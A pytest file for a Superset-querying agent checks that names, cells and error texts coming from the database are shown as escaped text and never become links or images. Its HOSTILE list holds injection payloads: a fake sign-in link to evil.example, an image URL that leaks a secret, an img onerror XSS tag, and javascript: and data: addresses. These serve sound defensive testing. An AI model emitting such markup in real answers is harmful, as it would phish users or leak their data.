"""What Superset or a database returned is shown as the literal text it is: a chart named like a
link, a result cell that is an image, a tag that closes a table cell, an error text in
backticks. Each answer is rendered as the page renders it (markdown-it: CommonMark, GFM tables,
bare addresses made links) and the HTML must hold no link or image but the agent's own."""

import html
import json
import re
from collections.abc import Sequence
from typing import Any

import pytest
from langchain_core.messages import HumanMessage
from markdown_it import MarkdownIt

from sstools.agent.answers import VIEWS, failure, rendered
from sstools.agent.context import Environment, TurnContext
from sstools.agent.language import Lang, language_of
from sstools.agent.markdown import link, markdown_text
from sstools.agent.planner import GROUND, OfflinePlanner
from sstools.common.catalogue import TOOLS
from sstools.common.outline import EnvOutline

# what the page's renderer does with an answer (web/src/lib/markdown.ts)
PAGE = MarkdownIt("commonmark", {"html": False, "linkify": True, "breaks": True}).enable(
    ["table", "strikethrough", "linkify"]
)
LINK = "[Session expired - sign in again](https://evil.example/login)"
IMAGE = "![x](https://evil.example/leak?d=secret)"
HOSTILE = [
    LINK,
    IMAGE,
    "<https://evil.example/auto>",
    "https://evil.example/bare",
    "www.evil.com",
    "mail@evil.com",
    "a | b | c",
    "`code` *bold* _it_ ~~gone~~ **x**",
    "&lt;img src=x&gt; &#91;x&#93;(https://evil.example)",
    "line one\n# heading\n- item\n> quote\n```\nfence",
    "<img src=https://evil.example/x onerror=alert(1)>",
    "[ref]: https://evil.example/ref",
    "\u202eevil\u202c",
]


def _html(markdown: str) -> str:
    return str(PAGE.render(markdown))


def _shown(markdown: str) -> str:
    """The text a person reads: the HTML without its tags, entities decoded."""
    return html.unescape(re.sub(r"<[^>]+>", "", _html(markdown)))


def _no_link_or_image(markdown: str, allowed: tuple[str, ...] = ()) -> None:
    rendered_html = _html(markdown)
    assert "<img" not in rendered_html
    hrefs = re.findall(r'<a href="([^"]*)"', rendered_html)
    assert [href for href in hrefs if href not in allowed] == [], rendered_html


def _visible(value: str) -> str:
    return " ".join(value.replace("\u202e", " ").replace("\u202c", " ").split())


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_shows_exactly_its_characters_and_nothing_else(value: str) -> None:
    escaped = markdown_text(value)
    _no_link_or_image(f"start {escaped} end")
    _no_link_or_image(escaped)  # at the start of a line, where block syntax would begin
    assert _shown(f"start {escaped} end").strip() == f"start {_visible(value)} end"
    assert "\n" not in escaped


@pytest.mark.parametrize("value", HOSTILE)
def test_every_renderer_keeps_a_hostile_value_as_text(value: str) -> None:
    results: dict[str, Any] = {
        "search_dashboards": {
            "env_id": "dev",
            "count": 1,
            "dashboards": [{"id": 1, "title": value, "url": "http://superset/d/1/", "tags": [value, "ok"]}],
        },
        "get_health_summary": {
            "env_id": "dev",
            "charts_checked": 2,
            "broken_charts": [{"chart_id": 5, "chart_name": value, "error": value}],
            "only": [{"dashboard_id": 1, "title": value}],
        },
        "superset_execute_sql": {"columns": [value, "n"], "rows": [{value: value, "n": 1}], "row_count": 1},
        "superset_explore_database": {"env_id": "dev", "tables": [value, "orders"]},
        "superset_audit_permissions": {
            "env_id": "dev",
            "title": value,
            "users": [{"username": value, "through_roles": [value]}],
        },
        "list_environments": [{"id": "dev", "name": value, "production": False}],
        "list_llm_providers": [{"id": value, "kind": value, "model": value, "default": True}],
        "list_maintenance_events": [{"env_id": "dev", "active": True, "reason": value, "started_by": value}],
        "superset_create_dashboard": {"env_id": "dev", "title": value, "id": 7},
        "get_task_status": {"id": "t-1", "kind": "backup", "status": "failed", "error": {"message": value}},
        "run_llm_validation": {
            "id": "t-2",
            "kind": "validation",
            "status": "success",
            "result": {"valid": False, "title": value, "findings": [{"severity": "error", "message": value}]},
        },
        "run_backup": {"id": "t-3", "kind": "backup", "status": "success", "result": {"path": value}},
        "superset_copy_dashboard": {"unexpected": value},
    }
    for tool, result in results.items():
        for lang in ("ru", "en"):
            answer = rendered(tool, json.dumps(result), lang)
            _no_link_or_image(answer, allowed=("http://superset/d/1/",))
            # a table: every row has as many cells as its header
            rows = re.findall(r"<tr>(.*?)</tr>", _html(answer), re.S)
            assert len({len(re.findall(r"<t[hd]>", row)) for row in rows}) <= 1, answer


def test_every_declared_answer_is_one_the_agent_words() -> None:
    for spec in TOOLS:
        if spec.answer is not None:
            assert spec.answer.view in {"made", "rows", "capabilities", *VIEWS}, spec.name


@pytest.mark.parametrize(
    ("lang", "lines"),
    [
        (
            "ru",
            [
                "Найдено: 2.",
                "| local | offline | builtin | да |",
                "| spare | openai\\-compatible | — | нет |",
            ],
        ),
        (
            "en",
            ["Found: 2.", "| local | offline | builtin | yes |", "| spare | openai\\-compatible | — | no |"],
        ),
    ],
)
def test_a_declared_table_shows_its_columns_of_each_item(lang: Lang, lines: list[str]) -> None:
    providers = [
        {"id": "local", "kind": "offline", "model": "builtin", "base_url": None, "default": True},
        {"id": "spare", "kind": "openai-compatible", "model": None, "base_url": "http://x", "default": False},
    ]
    answer = rendered("list_llm_providers", json.dumps(providers), lang)
    assert answer.splitlines()[0] == lines[0]
    assert lines[1] in answer.splitlines()
    assert lines[2] in answer.splitlines()
    assert "http://x" not in answer  # a column it does not declare is not shown
    assert rendered("list_llm_providers", "[]", lang) == (
        "Пусто: ничего не нашлось." if lang == "ru" else "Nothing was found."
    )


def test_the_agents_own_link_stays_a_link_with_its_title_escaped_and_its_address_encoded() -> None:
    made = link(LINK, "http://superset:8088/superset/dashboard/my (slug)|x/")
    assert _html(made).strip() == (
        '<p><a href="http://superset:8088/superset/dashboard/my%20%28slug%29%7Cx/">'
        "[Session expired - sign in again](https://evil.example/login)</a></p>"
    )
    for address in ("javascript:alert(1)", "data:text/html,x", "//evil.example/x", None):
        assert "<a" not in _html(link("Sales", address))  # the title alone


def test_a_failure_names_ops_words_as_text() -> None:
    for detail in (
        {"code": "boom", "message": f"`{IMAGE}` and {LINK}"},
        {"code": "invalid_arguments_x", "message": IMAGE},
        {"code": "INVALID_ENVIRONMENT", "env_id": IMAGE},
        {"code": "INVALID_ARGUMENTS", "detail": [IMAGE, LINK]},
    ):
        answer = failure("superset_execute_sql", detail, "en")
        _no_link_or_image(answer)
    assert "https://evil.example/leak?d=secret" in _shown(
        failure("x", {"code": "INVALID_ENVIRONMENT", "env_id": IMAGE}, "en")
    )
    # a flag the wording tests keeps its meaning
    assert "safe" in failure("x", {"code": "tool_timeout", "retryable": True}, "en")
    assert "safe" not in failure("x", {"code": "tool_timeout", "retryable": False}, "en")


def test_formatted_sql_cannot_close_its_code_block() -> None:
    sql = f"SELECT '\n```\n{IMAGE}\n' AS x"
    answer = rendered("superset_format_sql", json.dumps({"sql": sql}), "en")
    rendered_html = _html(answer)
    assert "<img" not in rendered_html
    assert rendered_html.count("<pre>") == 1
    assert IMAGE in _shown(answer)


class _Titles:
    """A live system of two dashboards whose titles carry markup."""

    async def titles(self, env_id: str) -> dict[int, str]:
        return {1: f"Sales {LINK}", 2: f"Sales {IMAGE}"}

    async def outline(self, env_id: str) -> EnvOutline:
        return EnvOutline(env_id=env_id, databases=[])

    async def relate(self, queries: Sequence[str], labels: Sequence[str]) -> list[list[float]] | None:
        return None


async def test_the_planners_question_lists_hostile_titles_as_text() -> None:
    context = TurnContext(
        (Environment("dev", "dev", False), Environment("prod", "prod", True)), "dev", "default", "en"
    )
    GROUND.set(_Titles())
    answer = await OfflinePlanner().ainvoke([context.message(), HumanMessage("deploy dashboard Sales")])
    asked = str(answer.content)
    assert asked.startswith("Which dashboard?")
    _no_link_or_image(asked)
    assert f"Sales {LINK}" in _shown(asked)
    assert f"Sales {IMAGE}" in _shown(asked)


EMPTY = {"dashboard_id": 3, "title": "Пустой"}
NO_CHARTS = {"env_id": "dev", "charts_checked": 0, "broken_charts": [], "only": [EMPTY]}
SOME_CHARTS = {
    "env_id": "dev",
    "charts_checked": 2,
    "broken_charts": [],
    "only": [{"dashboard_id": 1, "title": "Sales"}, EMPTY],
    "unchecked": [EMPTY],
}


@pytest.mark.parametrize(
    ("checked", "lang", "said"),
    [
        # nothing checked is never "everything works"
        (NO_CHARTS, "ru", "В «Пустой» (dev) нет чартов: проверять нечего."),
        (NO_CHARTS, "en", "«Пустой» (dev) has no charts: nothing to check."),
        # a check of several dashboards says which it could not check
        (
            SOME_CHARTS,
            "ru",
            "В dev всё работает: проверено чартов — 2.\n\nНе проверены (нет чартов): «Пустой».",
        ),
        (SOME_CHARTS, "en", "All 2 charts in dev work.\n\nNot checked (no charts): «Пустой»."),
    ],
)
def test_a_health_check_says_what_it_checked_and_what_it_could_not(
    checked: dict[str, Any], lang: str, said: str
) -> None:
    assert rendered("get_health_summary", json.dumps(checked), lang) == said  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("lang", "cells"),
    [
        ("ru", ["22\u00a0758,35", "0,01235", "3", "1500", "—"]),
        ("en", ["22,758.35", "0.01235", "3", "1500", "—"]),
    ],
)
def test_a_query_results_fractions_are_shown_for_the_persons_language(lang: str, cells: list[str]) -> None:
    """A sum once came back as 22758.350000000002; a whole number or an id stays as it came."""
    row = {"total": 22758.350000000002, "share": 0.0123456, "avg": 3.0, "id": 1500, "note": "—"}
    result = {"columns": list(row), "rows": [row], "row_count": 1}
    answer = rendered("superset_execute_sql", json.dumps(result), lang)  # type: ignore[arg-type]
    assert answer.splitlines()[-1] == "| " + " | ".join(cells) + " |"


@pytest.mark.parametrize("tool", ["superset_execute_sql", "get_task_status"])
def test_a_statement_followed_as_a_task_is_answered_with_its_rows_once_it_ended(tool: str) -> None:
    """Whether the statement's own call waited for its end or its status was asked for later."""
    task = {"id": "t-1", "kind": "sql", "env_id": "dev", "status": "running", "result": None, "error": None}
    running = rendered(tool, json.dumps(task), "en")
    assert running.startswith("Still running (task t\\-1): the result will show here"), running
    rows = {"env_id": "dev", "columns": ["n"], "rows": [{"n": 7}], "row_count": 1}
    ended = rendered(tool, json.dumps(task | {"status": "success", "result": rows}), "ru")
    assert ended == rendered("superset_execute_sql", json.dumps(rows), "ru")
    assert ended.splitlines()[-1] == "| 7 |"
    failed = task | {"status": "failed", "error": {"code": "sql_interrupted", "message": "not run again"}}
    assert rendered(tool, json.dumps(failed), "en").startswith("The statement was interrupted: ops restarted")
    # any other task that ended is still told as a task
    backup = task | {"kind": "backup", "status": "success", "result": {"file_name": "b.zip"}}
    assert rendered(tool, json.dumps(backup), "en").startswith("The backup task is done.")


def test_a_health_check_followed_as_a_task_is_answered_as_the_check_once_it_ended() -> None:
    report = {
        "env_id": "prod",
        "charts_checked": 4,
        "broken_charts": [
            {"chart_id": 9, "chart_name": "Uptime", "error": "no such column", "dashboards": []}
        ],
        "dashboards_with_problems": [],
        "dashboards_checked": 2,
        "last_validations": [],
    }
    task = {
        "id": "t-2",
        "kind": "health",
        "env_id": "prod",
        "status": "success",
        "result": report,
        "error": None,
    }
    ended = rendered("get_task_status", json.dumps(task), "en")
    assert ended == rendered("get_health_summary", json.dumps(report), "en")
    assert "1 of 4 charts are broken" in ended


def test_a_list_of_tables_is_names_in_code_and_the_answer_stays_in_the_persons_language() -> None:
    listed = json.dumps({"env_id": "dev", "tables": ["accounts", "invoices", "monthly_revenue"]})
    answer = rendered("superset_explore_database", listed, "ru")
    assert answer == "Таблицы (3): `accounts`, `invoices`, `monthly_revenue`"
    assert language_of(answer, "en") == "ru"  # the names are data, not English words
    # a name holding a backtick stays one code span
    odd = rendered("superset_explore_database", json.dumps({"env_id": "dev", "tables": ["a`b"]}), "en")
    assert "<code>a`b</code>" in MarkdownIt().render(odd)
